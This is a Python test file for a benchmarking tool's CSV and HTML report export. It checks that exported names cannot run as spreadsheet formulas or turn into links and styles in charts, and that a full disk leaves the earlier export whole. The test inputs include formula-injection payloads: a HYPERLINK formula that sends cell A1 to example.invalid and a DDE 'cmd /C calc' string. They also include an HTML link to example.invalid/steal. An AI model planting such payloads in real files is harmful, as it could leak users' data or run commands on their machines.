"""Exports and labels under careless and hostile names (issue 44, class 4): a CSV that a
spreadsheet opens runs no formula; the report's charts show every name as text (read back
in headless Chromium); an export on a full disk never leaves one CSV without the other."""

from __future__ import annotations

import csv
import html
import os
import re
import resource
import signal
import subprocess
import sys
from pathlib import Path

from mqlab.terminal import printable
from tests import results_fixtures as fx
from tests.helpers import ROOT, mqlab
from tests.test_report_chromium import _dom

#: what a spreadsheet (LibreOffice, Excel) runs as a formula when a cell starts with it
FORMULAS = [
    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _renamed(names: dict[str, str]) -> dict[str, object]:
    """The schema 2 fixture with its drivers (pika, kombu) renamed."""
    doc = fx.schema2_run()
    for s in doc["steps"]:
        s["driver"] = names[s["driver"]]
    return doc


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_no_cell_of_an_export_runs_as_a_formula(tmp_path: Path) -> None:
    names = dict(zip(("pika", "kombu"), FORMULAS[:2], strict=True))
    doc = _renamed(names)
    for s, bad in zip(doc["steps"], FORMULAS[2:] * 2, strict=False):
        s["scenario"] = bad  # type: ignore[index]
    src = fx.write(tmp_path / "r.json", doc)
    proc = mqlab("export", str(src), "--csv", str(tmp_path / "csv"))
    assert proc.returncode == 0, proc.stderr
    rows = [*_cells(tmp_path / "csv" / "r.steps.csv"), *_cells(tmp_path / "csv" / "r.series.csv")]
    texts = [c for row in rows for c in row]
    formulas = [c for c in texts if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the only cells left that start so are numbers (a warm-up second is -1), read as numbers
    assert all(re.fullmatch(r"-\d+(\.\d+)?", c) for c in formulas), formulas
    # each name is still there, as the reader shows it (a carriage return as "\r"), behind
    # the quote a spreadsheet shows as text
    for bad in map(printable, FORMULAS):
        assert (f"'{bad}" if bad[0] in "=+-@\t" else bad) in texts, bad
    # and pandas-style readers keep the numbers: t_s of the warm-up second is -1
    series = _cells(tmp_path / "csv" / "r.series.csv")
    assert series[1][series[0].index("t_s")] == "-1"


def test_names_in_the_reports_charts_are_text_not_links_or_styles(tmp_path: Path) -> None:
    link = '<a href="https://example.invalid/steal">pika</a>'
    styled = '<span style="font-size:80px;fill:red">kombu</span>'
    doc = _renamed({"pika": link, "kombu": styled})
    src = fx.write(tmp_path / "r.json", doc)
    assert mqlab("report", str(src)).returncode == 0
    dom = _dom(tmp_path / "r.html")
    charts = dom[dom.index('<div id="chart-1"') :]
    # plotly.js turns <a href> in a label into an SVG link, and a style into a restyled tspan
    assert not re.search(r"<a[^>]*example\.invalid", charts), "a name became a link"
    assert not re.search(r'<tspan[^>]*style="[^"]*font-size: ?80px', charts), "a name restyled"
    legend = {
        html.unescape(t) for t in re.findall(r'<text class="legendtext"[^>]*>(.*?)</text>', charts)
    }
    assert link in legend and styled in legend, sorted(legend)[:6]


def test_an_export_on_a_full_disk_leaves_no_steps_csv_without_its_series(tmp_path: Path) -> None:
    doc = fx.schema2_run()
    for s in doc["steps"]:  # long series: the series file is many times the steps file
        n = 2000
        s["series"] = {**s["series"], **{k: [1.0] * n for k in ("sent", "received", "errors")}}
        s["series"]["round_trip"] = [1.0] * n if s["pattern"] == "call" else []
        s["series"]["p50_ms"] = s["series"]["p99_ms"] = [2.0] * n
    src = fx.write(tmp_path / "r.json", doc)
    out = tmp_path / "csv"
    assert mqlab("export", str(src), "--csv", str(out)).returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    steps, series = before["r.steps.csv"], before["r.series.csv"]
    assert len(series) > 4 * len(steps)
    for s in doc["steps"]:  # a new run's figures: both files change
        s["throughput"]["mean"] += 1
        s["series"]["sent"] = [3.0] * 2000
    fx.write(src, doc)
    limit = (len(steps) + len(series)) // 2  # room for the steps file, not for the series

    def small_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    proc = subprocess.run(
        [sys.executable, "-m", "mqlab.console.cli", "export", str(src), "--csv", str(out)],
        cwd=ROOT, capture_output=True, text=True, timeout=120, preexec_fn=small_disk,
        env={**os.environ},
    )  # fmt: skip
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.startswith(f"mqlab: cannot write to {out}"), proc.stderr
    # the earlier export, whole: not this run's steps beside the earlier run's series
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
